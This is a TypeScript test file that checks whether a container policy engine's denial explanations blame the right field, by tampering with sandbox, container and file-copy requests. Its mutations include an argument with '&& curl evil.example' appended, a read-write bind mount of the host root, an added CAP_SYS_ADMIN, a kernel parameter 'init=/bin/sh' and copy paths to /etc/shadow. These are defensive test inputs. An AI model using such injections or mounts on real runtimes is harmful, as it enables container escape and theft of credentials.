/**
 * `policy explain` must blame the field that, changed back, makes the request pass. For every
 * example pod, requests shaped as the runtime sends them are tampered with one field at a time; the
 * explanation's path is then restored from the untouched request and the decision must flip to
 * allowed (CreateSandbox, CreateContainer, CopyFile). Every kind of tampering must hit at least one request of every pod, or the test fails
 * (a mutation that never applies proves nothing).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PolicyEnforcer, explainDenial } from '../../src/agent/index.js';
import { EXAMPLE_FILES, runExample, startHarness, type Harness, type PodRun } from '../policy/harness.js';

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Obj = { [key: string]: Json };

/** `OCI.Process.Env[3]`, `OCI.Annotations["io.k8s"]` -> segments. */
export function parsePath(path: string): (string | number)[] {
  const out: (string | number)[] = [];
  const re = /(?:^|\.)([A-Za-z_][A-Za-z0-9_]*)|\[(\d+)\]|\[("(?:[^"\\]|\\.)*")\]/g;
  let m: RegExpExecArray | null;
  let end = 0;
  while ((m = re.exec(path)) !== null) {
    if (m.index !== end) throw new Error(`bad path ${path}`);
    end = re.lastIndex;
    if (m[1] !== undefined) out.push(m[1]);
    else if (m[2] !== undefined) out.push(Number(m[2]));
    else out.push(JSON.parse(m[3]) as string);
  }
  if (end !== path.length) throw new Error(`bad path ${path}`);
  return out;
}

function lookup(root: Json, segments: (string | number)[]): { found: boolean; value?: Json } {
  let node: Json = root;
  for (const s of segments) {
    if (node === null || typeof node !== 'object') return { found: false };
    if (Array.isArray(node)) {
      if (typeof s !== 'number' || s >= node.length) return { found: false };
      node = node[s];
    } else {
      if (typeof s !== 'string' || !(s in node)) return { found: false };
      node = node[s];
    }
  }
  return { found: true, value: node };
}

/** Puts the original's value back at `path` (or takes out what the original did not have). */
export function revert(tampered: Json, original: Json, path: string): Json {
  const segments = parsePath(path);
  const copy = structuredClone(tampered);
  const parent = lookup(copy, segments.slice(0, -1));
  const last = segments[segments.length - 1];
  const before = lookup(original, segments);
  if (!parent.found || parent.value === null || typeof parent.value !== 'object') throw new Error(`no ${path} in the request`);
  const container = parent.value as Obj | Json[];
  if (before.found) (container as Record<string | number, Json>)[last] = structuredClone(before.value as Json);
  else if (Array.isArray(container) && typeof last === 'number') container.splice(last, 1);
  else delete (container as Obj)[last as string];
  return copy;
}

type Create = {
  sandbox_pidns: boolean;
  OCI: { Process: { Env: string[]; Args: string[]; Cwd: string; Capabilities: { Bounding: string[] } }; Mounts: Obj[]; Annotations: Record<string, string> };
  storages: Obj[];
};
type Mutation<T> = { name: string; apply: (r: T) => boolean };

const CREATE_MUTATIONS: Mutation<Create>[] = [
  { name: 'added environment variable', apply: (r) => r.OCI.Process.Env.push('EVIL=1') > 0 },
  { name: 'changed environment value', apply: (r) => r.OCI.Process.Env.length > 0 && ((r.OCI.Process.Env[0] = `${r.OCI.Process.Env[0]}:/evil`), true) },
  { name: 'changed argument', apply: (r) => r.OCI.Process.Args.length > 0 && ((r.OCI.Process.Args[r.OCI.Process.Args.length - 1] += ' && curl evil.example'), true) },
  { name: 'changed working directory', apply: (r) => ((r.OCI.Process.Cwd = '/evil'), true) },
  { name: 'extra mount', apply: (r) => r.OCI.Mounts.push({ destination: '/host', source: '/', type_: 'bind', options: ['rbind', 'rw'] }) > 0 },
  { name: 'mount source moved', apply: (r) => r.OCI.Mounts.length > 0 && ((r.OCI.Mounts[r.OCI.Mounts.length - 1].source = '/etc'), true) },
  { name: 'privileged capability', apply: (r) => !r.OCI.Process.Capabilities.Bounding.includes('CAP_SYS_ADMIN') && r.OCI.Process.Capabilities.Bounding.push('CAP_SYS_ADMIN') > 0 },
  { name: 'sandbox PID namespace flipped', apply: (r) => ((r.sandbox_pidns = !r.sandbox_pidns), true) },
  { name: 'unknown annotation', apply: (r) => ((r.OCI.Annotations['io.katacontainers.config.hypervisor.kernel_params'] = 'init=/bin/sh'), true) },
  {
    name: 'storage option changed',
    apply: (r) => {
      const s = r.storages.find((x) => Array.isArray(x.options) && x.options.length > 0);
      if (!s) return false;
      (s.options as string[])[0] = `${String((s.options as string[])[0])}x`;
      return true;
    },
  },
];

type Sandbox = { guest_hook_path: string; kernel_modules: string[]; sandbox_pidns: boolean; sandbox_id: string; storages: Obj[] };
const SANDBOX_MUTATIONS: Mutation<Sandbox>[] = [
  { name: 'guest hooks', apply: (r) => ((r.guest_hook_path = '/usr/share/oci/hooks'), true) },
  { name: 'kernel module', apply: (r) => r.kernel_modules.push('evil') > 0 },
  { name: 'sandbox PID namespace', apply: (r) => ((r.sandbox_pidns = true), true) },
  { name: 'malformed sandbox ID', apply: (r) => ((r.sandbox_id = 'NOT-AN-ID'), true) },
  { name: 'extra sandbox storage', apply: (r) => r.storages.push({ driver: 'virtio-fs', driver_options: [], source: 'hostRoot', fstype: 'virtiofs', options: [], mount_point: '/', fs_group: null }) > 0 },
];

type Copy = { path: string; file_type?: string; symlink_target?: string };
const COPY_MUTATIONS: Mutation<Copy>[] = [
  { name: 'path outside the shared folder', apply: (r) => ((r.path = '/etc/shadow'), true) },
  { name: 'unsupported file type', apply: (r) => ((r.file_type = 'Socket'), true) },
  { name: 'symlink target on a regular file', apply: (r) => ((r.symlink_target = '/etc/shadow'), true) },
];

interface Counts {
  [mutation: string]: number;
}

/** Denied, explained, restored at the blamed path: allowed again. Returns the blamed path. */
function checkRevert(enforcer: PolicyEnforcer, kind: string, original: Json, tampered: Json, what: string): string {
  const d = enforcer.decide(kind, tampered);
  expect(d.allowed, `${what} must be denied`).toBe(false);
  const [check] = explainDenial(enforcer, kind, tampered, d).checks;
  expect(check?.path, `${what}: no field blamed (${check?.message})`).toBeDefined();
  const restored = revert(tampered, original, check.path!);
  expect(enforcer.decide(kind, restored).allowed, `${what}: blamed ${check.message}, but restoring ${check.path} does not make it pass`).toBe(true);
  return check.path!;
}

/** Current agents hand CopyFile to the policy as their PolicyCopyFileRequest (the file type named, no data). */
function agentShape(r: { kind: string; request: unknown }): unknown {
  if (r.kind !== 'CopyFileRequest') return r.request;
  const { symlink_src: src, ...rest } = r.request as Obj;
  return { ...rest, file_type: src === '' ? 'Regular' : 'Symlink', symlink_target: src };
}

function mutateEvery(pod: PodRun, counts: Counts, enforcerAt: (index: number) => PolicyEnforcer): void {
  pod.requests.map((r) => ({ kind: r.kind, request: agentShape(r) as Json })).forEach((r, index) => {
    const mutations = r.kind === 'CreateContainerRequest' ? CREATE_MUTATIONS : r.kind === 'CopyFileRequest' ? COPY_MUTATIONS : r.kind === 'CreateSandboxRequest' ? SANDBOX_MUTATIONS : [];
    for (const m of mutations as Mutation<unknown>[]) {
      const tampered = structuredClone(r.request);
      if (!m.apply(tampered)) continue;
      checkRevert(enforcerAt(index), r.kind, r.request, tampered, `${pod.resource} ${r.kind} #${index}: ${m.name}`);
      counts[m.name] = (counts[m.name] ?? 0) + 1;
    }
  });
}

let h: Harness;
beforeAll(async () => {
  h = await startHarness();
});
afterAll(async () => h?.close());

describe('path parsing and restoring', () => {
  it('restores a replaced value and takes out an appended one', () => {
    const original = { a: { b: ['x', 'y'], 'k.s': '1' } } as Json;
    expect(revert({ a: { b: ['x', 'z'], 'k.s': '1' } }, original, 'a.b[1]')).toEqual(original);
    expect(revert({ a: { b: ['x', 'y', 'w'], 'k.s': '1' } }, original, 'a.b[2]')).toEqual(original);
    expect(revert({ a: { b: ['x', 'y'], 'k.s': '2' } }, original, 'a["k.s"]')).toEqual(original);
    expect(() => parsePath('a..b')).toThrow();
  });
});

describe.each(EXAMPLE_FILES)('explanations for example %s', (file) => {
  it('blame the field that, restored, makes the request pass (in order, with state)', async () => {
    const { pods } = await runExample(h, file);
    for (const pod of pods) {
      const counts: Counts = {};
      // The state the real runtime has built up before each request.
      mutateEvery(pod, counts, (index) => {
        const e = PolicyEnforcer.fromText(pod.policy.policy, { syntax: 'v1' });
        for (const r of pod.requests.slice(0, index)) e.decide(r.kind, agentShape(r));
        return e;
      });
      const kinds = new Set(pod.requests.map((r) => r.kind));
      const expected = [
        ...(kinds.has('CreateContainerRequest') ? CREATE_MUTATIONS : []),
        ...(kinds.has('CopyFileRequest') ? COPY_MUTATIONS : []),
        ...(kinds.has('CreateSandboxRequest') ? SANDBOX_MUTATIONS : []),
      ].map((m) => m.name);
      const missing = expected.filter((name) => !(counts[name] > 0));
      expect(missing, `${pod.resource}: mutations that hit no request`).toEqual([]);
    }
  });

  it('blame the right field of a single request, with no sandbox state', async () => {
    const { pods } = await runExample(h, file);
    for (const pod of pods) {
      const counts: Counts = {};
      mutateEvery(pod, counts, () => PolicyEnforcer.fromText(pod.policy.policy, { syntax: 'v1' }));
      expect(counts['added environment variable'], `${pod.resource}: no container request`).toBeGreaterThan(0);
    }
  });
});
